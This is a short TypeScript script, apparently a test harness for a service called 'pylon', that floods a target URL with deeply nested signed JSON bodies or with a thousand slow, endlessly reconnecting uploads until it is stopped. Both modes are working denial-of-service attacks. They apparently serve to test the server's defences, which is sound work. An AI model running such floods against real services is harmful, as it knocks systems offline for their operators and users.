/**
 * Sends to a pylon what it does not like, until it is ended: `node attacker.js deep|slow URL`.
 *   deep  signed bodies of 1 MB, nested a quarter of a million levels deep, over four connections
 *   slow  a thousand unsigned uploads of 5 MB at once, each of which brings 64 KB a second
 * Prints "attacking" when it has begun.
 */
import { Agent } from 'node:http';
import { connect } from 'node:net';

import { sign, signatureHeader } from './event.ts';
import { statusOf } from './poll.ts';

const [kind, url = ''] = process.argv.slice(2);

if (kind === 'deep') sendDeep();
else sendSlowly();
process.stdout.write('attacking\n');

function sendDeep(): void {
  const body = `${'[{"a":'.repeat(125_000)}1${'}]'.repeat(125_000)}`;
  const headers = { [signatureHeader]: sign(body) };
  const agent = new Agent({ keepAlive: true, maxSockets: 4 });
  const again = async (): Promise<void> => {
    for (;;) await statusOf(agent, url, { headers, body });
  };
  for (let connection = 0; connection < 4; connection += 1) void again();
}

function sendSlowly(): void {
  const { hostname, port, pathname } = new URL(url);
  const head = `POST ${pathname} HTTP/1.1\r\nhost: pylon\r\ncontent-length: ${5 * 2 ** 20}\r\n\r\n`;
  const piece = Buffer.alloc(64 * 1024, 'x');
  const open = (): void => {
    const socket = connect(Number(port), hostname);
    socket.write(head);
    const timer = setInterval(() => socket.write(piece), 1_000);
    socket.resume().on('error', () => undefined);
    // Refused: it tries again.
    socket.on('close', () => {
      clearInterval(timer);
      setTimeout(open, 500);
    });
  };
  for (let upload = 0; upload < 1_000; upload += 1) open();
}
